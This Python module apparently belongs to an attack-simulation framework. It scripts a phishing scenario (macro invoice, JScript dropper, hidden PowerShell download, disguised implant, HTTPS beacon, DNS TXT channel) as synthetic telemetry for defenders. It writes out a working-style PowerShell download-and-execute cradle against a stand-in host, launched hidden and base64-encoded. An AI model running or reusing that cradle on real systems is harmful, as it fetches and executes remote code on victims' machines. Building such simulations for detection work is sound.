"""A mail with an invoice: a document with macros starts a script, the script fetches an implant, the implant calls home."""

from __future__ import annotations

from base64 import b64encode

from bartizan.simulate.company.network import Flow
from bartizan.simulate.company.programs import Program
from bartizan.simulate.contract import Attack, Deed, Stage

__all__ = ["STAGE"]

_HOST, _USER = "finance-02", "CORP\\finance02"
_MAIL = Deed(
    id="mail",
    what="A mail brings an invoice with macros; Outlook stores the attachment.",
    techniques=("T1566.001",),
    tactic="initial-access",
    host=_HOST,
    principal=_USER,
    quiet=True,
)
_OPEN = Deed(
    id="open",
    what="The recipient opens the document and enables its macros.",
    techniques=("T1204.002",),
    tactic="execution",
    host=_HOST,
    principal=_USER,
    quiet=True,
)
_SCRIPT = Deed(
    id="macro-script",
    what="The macro writes a JScript file and starts the script host from Word.",
    techniques=("T1059.007", "T1059.005"),
    tactic="execution",
    host=_HOST,
    principal=_USER,
)
_FETCH = Deed(
    id="fetch",
    what="The script starts hidden PowerShell that fetches the implant.",
    techniques=("T1059.001", "T1105", "T1027.010"),
    tactic="command-and-control",
    host=_HOST,
    principal=_USER,
)
_IMPLANT = Deed(
    id="implant",
    what="The implant starts from the user's roaming profile under a harmless name.",
    techniques=("T1036.005",),
    tactic="defense-evasion",
    host=_HOST,
    principal=_USER,
)
_BEACON = Deed(
    id="beacon",
    what="The implant calls home over HTTPS about every five minutes.",
    techniques=("T1071.001", "T1573.002"),
    tactic="command-and-control",
    host=_HOST,
    principal=_USER,
    quiet=True,
)
_DNS = Deed(
    id="dns-channel",
    what="The implant keeps a second channel in DNS text records.",
    techniques=("T1071.004",),
    tactic="command-and-control",
    host=_HOST,
    principal=_USER,
)


def _act(attack: Attack) -> None:
    company = attack.company
    desk = company.desks[_HOST]
    host, home = desk.host, f"C:\\Users\\{desk.user.name}\\AppData"
    start = company.clock.at("09:42:17")
    mail = host.running("outlook", desk.session, '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"')
    document = f"{home}\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M1ZD\\Invoice_44871.docm"
    with attack.doing(start, _MAIL):
        host.write(start, mail, document)
    with attack.doing(start + 31, _OPEN):
        word = host.start(
            start + 31, "winword", f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{document}" /o ""', mail
        )
        host.write(start + 34, word, f"{home}\\Roaming\\Microsoft\\Office\\Recent\\Invoice_44871.LNK")
        host.set_value(
            start + 52,
            word,
            f"HKU\\{desk.user.sid}\\SOFTWARE\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords\\{document}",
            "Binary Data",
        )
    with attack.doing(start + 55, _SCRIPT):
        host.write(start + 55, word, f"{home}\\Local\\Temp\\inv44871.js")
        script = host.start(
            start + 56, "wscript", f'"C:\\Windows\\System32\\wscript.exe" /e:jscript "{home}\\Local\\Temp\\inv44871.js"', word
        )
    text = (
        "$u='http://cdn-update.example.net/s/9f2c';$c=New-Object Net.WebClient;$c.Headers.Add('X-Id',$env:COMPUTERNAME);"
        "IEX $c.DownloadString($u)"
    )
    image = f"{home}\\Roaming\\Microsoft\\SyncHost\\synchost.exe"
    with attack.doing(start + 59, _FETCH):
        command = f"powershell.exe -nop -w hidden -enc {b64encode(text.encode('utf-16-le')).decode()}"
        shell = host.start(start + 59, "powershell", command, script)
        host.script(start + 60, shell, text)
        host.invoke(start + 60.1, shell, "New-Object", "TypeName=Net.WebClient")
        company.reach(start + 61, shell, host, ("cdn-update.example.net", 80), Flow("", 0, "", 0, "-", 2.1, 400, 611_000))
        host.write(start + 64, shell, image)
    with attack.doing(start + 66, _IMPLANT):
        implant = host.start(start + 66, Program(image), f'"{image}"', shell)
        host.stop(start + 70, shell)
        host.stop(start + 71, script)
    attack.processes["implant"] = implant
    _call_home(attack)


def _call_home(attack: Attack) -> None:
    company, implant = attack.company, attack.processes["implant"]
    host = company.windows[_HOST]
    first, last = company.clock.at("09:43:40"), company.clock.at("19:05")
    moment = first
    with attack.doing(first, _BEACON):
        while moment < last:
            company.reach(
                moment,
                implant,
                host,
                ("api-telemetry.example.net", 443),
                Flow("", 0, "", 0, "-", 0.8, 1100 + attack.rng.randrange(300), 2400),
            )
            moment += 300 + attack.rng.random() * 60 - 30
    start = company.clock.at("11:30")
    with attack.doing(start, _DNS):
        for turn in range(40):
            name = f"{attack.rng.getrandbits(200):050x}.t.cdn-update.example.net"
            company.network.query(start + turn * 1.3, host.ip, name, "TXT 31 " + f"{attack.rng.getrandbits(112):028x}", "TXT")
            if turn % 8 == 0:
                host.resolve(start + turn * 1.3, implant, name, "198.51.100.66")


STAGE = Stage(order=10, title="Phishing, an implant, and its channels home", act=_act)
